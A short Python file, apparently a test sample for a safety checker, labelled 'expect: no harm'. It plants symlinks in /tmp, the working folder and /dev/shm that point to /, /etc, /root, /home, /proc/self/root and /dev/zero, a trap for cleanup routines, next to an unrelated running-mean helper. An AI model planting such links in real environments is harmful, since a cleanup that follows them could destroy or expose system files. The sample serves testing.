"""Leaves links in its scratch folder that lead whoever cleans up to other places."""
# expect: no harm
# %%
import os

for number, target in enumerate(("/", "/etc", "/root", "/home", "..", "/proc/self/root", "/dev/zero")):
    for folder in ("/tmp", ".", "/dev/shm"):
        try:
            os.symlink(target, f"{folder}/way-{number}")
        except OSError:
            pass


def running_mean(signal, window):
    return signal.unfold(0, window, 1).mean(dim=1)
